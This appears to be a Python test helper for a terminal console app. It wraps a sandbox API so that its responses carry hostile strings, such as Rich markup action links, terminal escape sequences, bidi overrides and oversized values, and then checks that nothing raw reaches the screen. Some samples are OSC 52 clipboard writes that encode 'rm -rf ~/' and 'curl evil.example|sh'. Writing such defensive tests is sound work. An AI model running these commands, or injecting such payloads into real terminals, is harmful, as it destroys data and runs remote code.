"""A hostile server: the sandbox's answers with every string replaced by something nasty.

Markup (``Ops [/] desk``, action links), every control byte, terminal escape sequences (title,
clear screen, OSC 52 clipboard writes), bidi overrides, 10,000-character strings, Devanagari, CJK
and emoji. Date-times keep their form (or move to the edge of what ISO 8601 allows) so the
answers still parse: the point is what the console does with valid but unkind data.
"""

from __future__ import annotations

import io
import itertools
import json
import re
from collections.abc import Iterator
from typing import Any

import httpx
from rich.console import Console
from textual.app import App

C0 = "".join(chr(c) for c in range(0x20) if chr(c) not in "\t\n")
C1 = "".join(chr(c) for c in range(0x80, 0xA0))

# Found on screen, literally, wherever one of these is shown.
MARKUP = "Ops [/] desk"
LINK = "[@click=app.quit]quit[/]"
SCREENSHOT = "[@click=app.screenshot('/tmp','x.svg')]shot[/]"
FIELD = "field [name] is required"

SAMPLES: tuple[str, ...] = (
    MARKUP,
    f"{LINK} {SCREENSHOT}",
    FIELD,
    "[b]bold? [red]red?",
    "title \x1b]0;pwned\x07 clear \x1b[2J\x1b[H osc52 \x1b]52;c;cm0gLXJmIH4vCg==\x07 end",
    f"c0 {C0} del \x7f c1 {C1} end",
    "bidi \u202eevil\u202c \u2066iso\u2069 \u200f zero-width sup\u200bport\ufeff end",
    "नमस्ते दुनिया — डेंटल क्लिनिक",
    "電話番号の申込 東京歯科",
    "📞👩🏽‍💻🇮🇳 emoji",
    "x" * 10_000,
    "",
)
# What must be on screen somewhere, as typed, once the hostile samples are listed.
LITERALS = (MARKUP, "[@click=app.quit]quit[/]", FIELD)
# A raw control character anywhere in what is drawn: what no screen may show.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\u200b\u2060\ufeff]"
                         # a joiner beside ASCII joins nothing it could draw differently
                         "|[\u200c\u200d](?=[\x00-\x7e])|(?<=[\x00-\x7e])[\u200c\u200d]")

EDGE_DATES = ("9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59")
# Strings the client needs as they are for the answer to parse at all.
_KEEP = {"id", "handle"}  # the web call needs a real agent reference


def _is_date_key(key: str) -> bool:
    return key == "at" or key.endswith("At")


class Hostile(httpx.AsyncBaseTransport):
    """Wraps the sandbox: each JSON answer comes back with its strings made hostile.

    ``error``: when set, every request (but the ones in ``spare``) answers this status and a
    hostile error body instead.
    """

    def __init__(self, inner: httpx.AsyncBaseTransport) -> None:
        self.inner = inner
        self.error: int | None = None
        self.spare: set[str] = set()
        self._counter: Iterator[int] = itertools.count()

    def sample(self) -> str:
        n = next(self._counter)
        base = SAMPLES[n % len(SAMPLES)]
        return base if n < len(SAMPLES) else f"{base} #{n}"

    def hostile(self, value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            out = {k: self.hostile(v, k) for k, v in value.items()}
            out["unheardOf"] = {"field": [self.sample(), 10**40, None]}  # unknown fields are kept
            if key == "config" and isinstance(out.get("llmParams"), list):
                # The spec leaves an llmParams item's shape open: a name may be anything.
                out["llmParams"] += [{"name": ["a", "list"], "description": self.sample()}, 5, None, "bare"]
            return out
        if isinstance(value, list):
            return [self.hostile(v, key) for v in value]
        if isinstance(value, str):
            if _is_date_key(key):
                n = next(self._counter)
                return EDGE_DATES[n % 2] if n % 3 == 0 else value
            if key in _KEEP:
                return value
            return self.sample()
        if isinstance(value, int) and not isinstance(value, bool) and key != "count":
            n = next(self._counter)
            return (10**30, -(10**18), 0, value)[n % 4]  # huge, negative, zero: valid JSON numbers
        return value

    def error_body(self) -> dict[str, Any]:
        return {
            "error": f"no route for [/v1/x] {LINK} \x1b]52;c;ZXZpbA==\x07",
            # Field errors are read from a 422's invalid_request; any other code is shown as it came.
            "code": "invalid_request" if self.error == 422 else "[b]weird_code",
            "details": [{"loc": "body.[name]", "message": FIELD}, {"loc": "body.name", "message": MARKUP}],
        }

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        if self.error is not None and request.url.path not in self.spare:
            return httpx.Response(self.error, json=self.error_body())
        response = await self.inner.handle_async_request(request)
        await response.aread()
        if not response.is_success or "json" not in response.headers.get("content-type", ""):
            return response
        body = self.hostile(json.loads(response.content))
        headers = {k: v for k, v in response.headers.items() if k.lower() not in ("content-length",)}
        return httpx.Response(response.status_code, headers=headers, json=body)


def screen_text(app: App[Any]) -> str:
    """Everything the screen draws (dialogs over their screens included), as plain text."""
    width, height = app.size
    console = Console(width=width, height=height, record=True, file=io.StringIO(), force_terminal=True,
                      color_system="truecolor", legacy_windows=False, safe_box=False)
    # What App.export_screenshot draws, as text rather than SVG.
    console.print(app.screen._compositor.render_update(full=True, screen_stack=app._background_screens))
    return console.export_text(styles=False)


def assert_drawn_safely(app: App[Any], where: str) -> str:
    text = screen_text(app)
    bad = RAW_CONTROL.search(text.replace("\n", ""))
    assert bad is None, f"{where}: raw {bad.group()!r} on screen near {text[max(bad.start() - 40, 0):bad.start() + 10]!r}"
    return text


# A number search whose first result carries terminal control where the wizard copies it into
# its fields: OSC 52 (write the clipboard), OSC 0 (set the window title), BEL and a C1 CSI.
CLIPBOARD = "Y3VybCBldmlsLmV4YW1wbGV8c2g="  # base64 of "curl evil.example|sh"
POISONED_NUMBER = f"9122\x1b]52;c;{CLIPBOARD}\x07\x1b]0;pwned-title\x07\x9b2J"
POISONED_COUNTRY = "I\x1b]0;country-title\x07\x9bN"
SEARCH_PATH = "/v1/phone-numbers/available"


class PoisonedSearch:
    """ASGI middleware around the sandbox: the first search result's ``number`` and
    ``countryIso`` hold terminal control; everything else is the sandbox's own answer."""

    def __init__(self, app: Any) -> None:
        self.app = app

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] != "http" or scope["path"] != SEARCH_PATH:
            await self.app(scope, receive, send)
            return
        start: dict[str, Any] = {}
        chunks: list[bytes] = []

        async def keep(message: dict[str, Any]) -> None:
            if message["type"] == "http.response.start":
                start.update(message)
            else:
                chunks.append(message.get("body", b""))

        await self.app(scope, receive, keep)
        data = b"".join(chunks)
        if start["status"] == 200:
            body = json.loads(data)
            if body.get("items"):
                body["items"][0]["number"] = POISONED_NUMBER
                body["items"][0]["countryIso"] = POISONED_COUNTRY
            data = json.dumps(body).encode()
        headers = [(k, v) for k, v in start["headers"] if k.lower() != b"content-length"]
        await send({**start, "headers": [*headers, (b"content-length", str(len(data)).encode())]})
        await send({"type": "http.response.body", "body": data})
